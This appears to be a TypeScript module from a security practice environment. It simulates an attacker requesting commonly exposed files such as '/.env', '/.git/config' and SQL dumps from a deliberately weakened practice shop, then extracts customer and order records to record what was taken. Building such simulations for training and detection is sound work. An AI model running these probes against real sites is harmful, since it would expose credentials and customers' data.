import type { PracticeShop } from '../open-practice-shop.ts';
import { attackerAddresses } from '../traffic/addresses.ts';
import { openClient } from '../traffic/open-client.ts';
import { pause } from '../traffic/pause.ts';
import { seededRandom } from '../world/seeded-random.ts';
import { type AttackOptions, type AttackTruth, openTally, refuseOthers } from './attack-truth.ts';

const tried = ['/.env', '/.git/config', '/backup.zip', '/db.sql', '/dump.sql.gz', '/database.sql', '/wp-config.php.bak', '/backup.sql'];

/** Somebody leaves a database dump in the web root; somebody else tries the usual names and takes it. */
export async function takeDump(shop: PracticeShop, options: AttackOptions = {}): Promise<AttackTruth> {
  await refuseOthers(shop);
  const random = seededRandom(options.seed ?? 'dump');
  const [address = '203.0.113.204'] = attackerAddresses('take-dump', 1, random);
  const client = openClient(shop.url, address, 'curl/8.9.1');
  shop.weaknesses.dump = true;
  const tally = openTally('take-dump');
  for (const path of tried) {
    if (options.signal?.aborted) break;
    const answer = tally.answered(await client.ask(path), address);
    if (answer.status === 200) {
      for (const [, id = ''] of answer.text.matchAll(/^INSERT INTO customers VALUES \('([^']+)'/gm)) tally.customer(id);
      for (const [, number = '', owner = ''] of answer.text.matchAll(/^INSERT INTO orders VALUES \('(\d+)', '([^']+)'/gm))
        tally.order(number, owner);
    }
    await pause(random.between(40, 160), options.signal);
  }
  await shop.settled();
  return tally.finish();
}
